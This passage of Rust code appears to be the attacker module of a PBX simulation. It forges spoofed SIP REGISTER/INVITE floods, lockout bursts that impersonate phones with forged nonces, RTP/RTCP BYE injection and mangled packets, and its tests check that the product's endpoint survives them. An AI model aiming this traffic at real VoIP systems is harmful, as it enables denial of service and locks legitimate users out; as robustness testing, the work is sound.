                let k = (*swept / 2 % PORT_NEIGHBOURS_MAX + 1) * 2;
                *swept = swept.wrapping_add(1);
                if swept.is_multiple_of(2) {
                    freshest.port().saturating_add(k)
                } else {
                    freshest.port().saturating_sub(k)
                }
            }
        } else {
            low.div_ceil(2) * 2 + 2 * self.rng.random_range(0..pairs)
        };
        let roll = self.rng.random_range(0..10);
        let (pt, rtcp) = match roll {
            0 => (PT_UNUSED, false),
            1 => (203, true),
            _ => (0, false),
        };
        let to = SocketAddr::new(self.config.pbx.ip(), port + u16::from(rtcp));
        let from = if rtcp { SocketAddr::new(from.ip(), from.port() | 1) } else { from };
        Stream {
            from,
            to,
            ssrc: self.rng.random(),
            seq: self.rng.random(),
            timestamp: self.rng.random(),
            pt,
            rtcp,
            left: if rtcp { 1 } else { packets },
        }
    }

    /// A source address nobody in the simulation has (198.18.0.0/15, the benchmarking range).
    fn spoofed(&mut self) -> SocketAddr {
        let ip = Ipv4Addr::new(198, 18 + self.rng.random_range(0..2), self.rng.random(), self.rng.random_range(1..255));
        SocketAddr::new(IpAddr::V4(ip), self.rng.random_range(1024..=65_535))
    }

    fn flood_request(&mut self) {
        let source = self.spoofed();
        let domain = self.config.pbx.ip();
        let (user, callee) = (self.random_extension(), self.random_extension());
        let branch = format!("z9hG4bK{}", self.hex());
        let call_id = format!("{}@{}", &self.hex()[..16], source.ip());
        let from = format!("<sip:{user}@{domain}>;tag={}", &self.hex()[..8]);
        let bytes = if self.rng.random_bool(0.5) {
            let to = format!("<sip:{user}@{domain}>");
            let extra = [("Contact", format!("<sip:{user}@{source}>")), ("Expires", "3600".into())];
            request("REGISTER", &format!("sip:{domain}"), source, &branch, (&from, &to, &call_id, 1), &extra, b"")
        } else {
            let to = format!("<sip:{callee}@{domain}>");
            let (sdp, _) = self.sdp_and_contact();
            let extra = [("Contact", format!("<sip:{user}@{source}>"))];
            request(
                "INVITE",
                &format!("sip:{callee}@{domain}"),
                source,
                &branch,
                (&from, &to, &call_id, 1),
                &extra,
                &sdp,
            )
        };
        self.send(AttackKind::Flood, source, self.config.pbx, bytes);
    }
}

/// The 128-bit leg id in one of pbx's tags, if it is one.
fn leg_id(tag: &str) -> Option<u128> {
    (tag.len() == 32).then(|| u128::from_str_radix(tag, 16).ok()).flatten()
}

fn challenge_of(response: &Response, name: &Name) -> Option<Challenge> {
    response.headers.get_raw(name).find_map(|v| Challenge::parse(v.as_str()).filter(|c| c.md5))
}

/// The Request-URI of a request's first line.
fn first_line_uri(bytes: &[u8]) -> Option<String> {
    let line = bytes.split(|b| *b == b'\r').next()?;
    let text = std::str::from_utf8(line).ok()?;
    text.split(' ').nth(1).map(str::to_owned)
}

/// A request as a UA sends it: Via with `rport`, then From, To, Call-ID, CSeq.
fn request(
    method: &str,
    uri: &str,
    source: SocketAddr,
    branch: &str,
    (from, to, call_id, cseq): (&str, &str, &str, u32),
    extra: &[(&str, String)],
    body: &[u8],
) -> Bytes {
    let text = format!(
        "{method} {uri} SIP/2.0\r\nVia: SIP/2.0/UDP {source};branch={branch};rport\r\nMax-Forwards: 70\r\n\
         From: {from}\r\nTo: {to}\r\nCall-ID: {call_id}\r\nCSeq: {cseq} {method}\r\n"
    );
    with_headers_and_body(text, extra, body)
}

/// An answer to an INVITE of pbx's, as the callee would send it.
fn response(
    code: u16,
    via: &str,
    (from, to, call_id, cseq): (&str, &str, &str, u32),
    extra: &[(&str, String)],
    body: &[u8],
) -> Bytes {
    let reason = pbx_actors::sip::message::reason_phrase(code);
    let text = format!(
        "SIP/2.0 {code} {reason}\r\nVia: {via}\r\nFrom: {from}\r\nTo: {to}\r\nCall-ID: {call_id}\r\n\
         CSeq: {cseq} INVITE\r\n"
    );
    with_headers_and_body(text, extra, body)
}

/// A message's start line and fixed headers, then `extra` headers, Content-Type for a body
/// (SDP), Content-Length and the body.
fn with_headers_and_body(mut text: String, extra: &[(&str, String)], body: &[u8]) -> Bytes {
    for (name, value) in extra {
        text.push_str(&format!("{name}: {value}\r\n"));
    }
    if !body.is_empty() {
        text.push_str("Content-Type: application/sdp\r\n");
    }
    text.push_str(&format!("Content-Length: {}\r\n\r\n", body.len()));
    let mut bytes = BytesMut::from(text.as_bytes());
    bytes.put_slice(body);
    bytes.freeze()
}

/// One in twenty forgeries is mangled on purpose (a byte changed, or cut short): malformed input
/// from the network must never panic a machine.
fn maybe_mangle(rng: &mut StdRng, bytes: Bytes) -> Bytes {
    if bytes.is_empty() || !rng.random_bool(0.05) {
        return bytes;
    }
    let mut out = bytes.to_vec();
    if rng.random_bool(0.5) {
        let i = rng.random_range(0..out.len());
        out[i] = rng.random();
    } else {
        out.truncate(rng.random_range(0..out.len()));
    }
    Bytes::from(out)
}

/// An RTP packet (RFC 3550 §5.1, no CSRC or extension) carrying [`ATTACK_PAYLOAD`], or an RTCP
/// BYE (RFC 3550 §6.6) for the stream's SSRC.
fn rtp_packet(s: &Stream) -> Bytes {
    let mut packet = BytesMut::with_capacity(12 + RTP_PAYLOAD_BYTES);
    if s.rtcp {
        packet.put_u8(0x81); // V=2, one source.
        packet.put_u8(203);
        packet.put_u16(1); // Length in 32-bit words, minus one.
        packet.put_u32(s.ssrc);
        return packet.freeze();
    }
    packet.put_u8(0x80);
    packet.put_u8(s.pt);
    packet.put_u16(s.seq);
    packet.put_u32(s.timestamp);
    packet.put_u32(s.ssrc);
    packet.put_bytes(ATTACK_PAYLOAD, RTP_PAYLOAD_BYTES);
    packet.freeze()
}

#[cfg(test)]
mod tests {
    use super::*;
    use pbx_actors::endpoint::machine::{Endpoint, EndpointInput, EndpointOutput};
    use pbx_actors::sip::message::Transport;
    use pbx_actors::sip::transaction::TimerConfig;

    fn config() -> AttackerConfig {
        AttackerConfig {
            address: "203.0.113.66".parse().unwrap(),
            pbx: "10.0.0.1:5060".parse().unwrap(),
            rtp_ports: (20_000, 29_999),
            phones: vec![
                ("1000".into(), "10.1.0.1:5060".parse().unwrap()),
                ("1001".into(), "10.1.0.2:5060".parse().unwrap()),
            ],
            insider: false,
            on_path: false,
        }
    }

    fn drain(attacker: &mut Attacker) -> Vec<(SocketAddr, SocketAddr, Bytes)> {
        let mut sent = Vec::new();
        while let Some(out) = attacker.poll_output() {
            if let AttackerOutput::Transmit { from, to, bytes } = out {
                sent.push((from, to, bytes));
            }
        }
        sent
    }

    /// The product's endpoint, with no call at all, answers every forged in-dialog request
    /// with 481 and says nothing to forged answers; nothing it sends panics it.
    #[test]
    fn forgeries_reach_the_endpoint_and_get_481_or_nothing() {
        let now = Timestamp::from_secs(1_767_571_200);
        let mut endpoint = Endpoint::new(TimerConfig::default(), [7; 32]);
        let mut attacker = Attacker::new(config(), 5);
        attacker.start(now, Campaign::Dialog { forgeries: 200 });
        let (mut requests, mut answers) = (0, BTreeMap::<u16, u32>::new());
        let mut at = now;
        for _ in 0..400 {
            for (from, _, bytes) in drain(&mut attacker) {
                requests += u32::from(!bytes.starts_with(b"SIP/2.0"));
                endpoint.handle(
                    at,
                    EndpointInput::Inbound { bytes, source: from, transport: Transport::Udp, received: at },
                );
                while let Some(out) = endpoint.poll_output() {
                    if let EndpointOutput::Transmit { bytes, .. } = out
                        && let Ok(Message::Response(r)) = parse_datagram(&bytes)
                    {
                        *answers.entry(r.code).or_default() += 1;
                    }
                }
            }
            match attacker.poll_timeout() {
                Some(t) => at = t,
                None => break,
            }
            attacker.timeout(at);
        }
        assert_eq!(attacker.stats.sent(AttackKind::Dialog), 200);
        assert!(requests > 60, "{requests} forged requests");
        assert!(answers.keys().all(|code| *code == 481 || *code >= 400), "{answers:?}");
        assert!(answers.get(&481).is_some_and(|n| *n > 30), "{answers:?}");
        assert_eq!(attacker.poll_timeout(), None, "the campaign ended");
    }

    /// A lockout burst: the probe from its own address, and after its 401 the spoofed failures
    /// claiming the phone's address, from its port and from others, one with a forged nonce.
    #[test]
    fn a_lockout_burst_claims_the_phones_address() {
        let now = Timestamp::from_secs(100);
        let mut attacker = Attacker::new(config(), 9);
        let target: SocketAddr = "10.1.0.2:5060".parse().unwrap();
        attacker.start(now, Campaign::Lockout { target, user: "1001".into(), until: now + Duration::from_secs(600) });
        let sent = drain(&mut attacker);
        assert_eq!(sent.len(), 1);
        let (from, _, probe) = &sent[0];
        assert_eq!(from.ip(), attacker.address());
        let Ok(Message::Request(probe)) = parse_datagram(probe) else { panic!("a request") };
        let mut challenge = probe.response(401, Some("t"));
        challenge.headers.insert(
            Name::WWW_AUTHENTICATE,
            "Digest realm=\"pbx\", nonce=\"n0nce\", qop=\"auth\", algorithm=MD5, opaque=\"op\"",
        );
        attacker.datagram(now, "10.0.0.1:5060".parse().unwrap(), *from, &challenge.to_bytes());
        let spoofed = drain(&mut attacker);
        assert_eq!(spoofed.len(), LOCKOUT_SPOOFS_PER_BURST as usize);
        assert!(spoofed.iter().all(|(from, _, _)| from.ip() == target.ip()));
        assert!(
            spoofed.iter().any(|(from, _, _)| *from == target) && spoofed.iter().any(|(from, _, _)| *from != target)
        );
        let nonces = spoofed.iter().filter(|(_, _, b)| String::from_utf8_lossy(b).contains("nonce=\"n0nce\"")).count();
        assert_eq!(nonces, LOCKOUT_SPOOFS_PER_BURST as usize - 1);
        assert_eq!(attacker.poll_timeout(), Some(now + LOCKOUT_BURST_INTERVAL));
    }

    /// RTP streams: consecutive sequence numbers, one SSRC per stream, 20 ms apart, to even
    /// ports in range (RTCP to the odd one above).
    #[test]
    fn rtp_streams_are_well_formed() {
        let now = Timestamp::from_secs(100);
        let mut attacker = Attacker::new(config(), 3);
        attacker.start(now, Campaign::Rtp { ports: 20, packets: 6 });
        let mut packets: Vec<(Timestamp, SocketAddr, Bytes)> = Vec::new();
        let mut at = now;
        loop {
            packets.extend(drain(&mut attacker).into_iter().map(|(_, to, b)| (at, to, b)));
            let Some(t) = attacker.poll_timeout() else { break };
            at = t;
            attacker.timeout(at);
        }
        assert!(packets.iter().all(|(_, to, _)| (20_000..=29_999).contains(&to.port())));
        let rtp: Vec<_> = packets.iter().filter(|(_, _, b)| b[1] != 203).collect();
        assert!(rtp.iter().all(|(_, to, _)| to.port() % 2 == 0));
        for pair in rtp.windows(2) {
            let ssrc = |b: &Bytes| u32::from_be_bytes([b[8], b[9], b[10], b[11]]);
            if ssrc(&pair[0].2) == ssrc(&pair[1].2) {
                let seq = |b: &Bytes| u16::from_be_bytes([b[2], b[3]]);
                assert_eq!(seq(&pair[1].2), seq(&pair[0].2).wrapping_add(1));
                assert_eq!(pair[1].0 - pair[0].0, RTP_PACKET_INTERVAL);
            }
        }
        assert!(rtp.len() >= 6 * 12, "{} RTP packets", rtp.len());
    }
}
